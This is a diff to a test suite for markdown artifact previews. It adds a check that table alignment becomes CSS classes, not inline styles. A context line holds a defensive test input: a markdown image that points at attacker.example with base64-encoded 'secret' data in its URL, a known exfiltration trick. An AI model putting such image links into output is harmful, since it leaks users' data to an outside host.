@@ -23,6 +23,14 @@ describe('artifact previews', () => {
     expect(html).toContain('&lt;img');
   });
 
+  it('table alignment is a class, never an inline style (the Content-Security-Policy allows none)', () => {
+    const html = markdownHtml('| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |\n');
+    expect(html).not.toContain('style=');
+    expect(html).toContain('<th class="md-align-left">a</th>');
+    expect(html).toContain('<td class="md-align-center">2</td>');
+    expect(html).toContain('<td class="md-align-right">3</td>');
+  });
+
   it('an image on another host is a link, not fetched when the preview opens (outsider attack on issue 18)', () => {
     const html = markdownHtml('![secret](https://attacker.example/x.png?d=c2VjcmV0) ![b](//attacker.example/y.png) ![ok](./local.png)');
     expect(html).not.toMatch(/<img[^>]*attacker/);
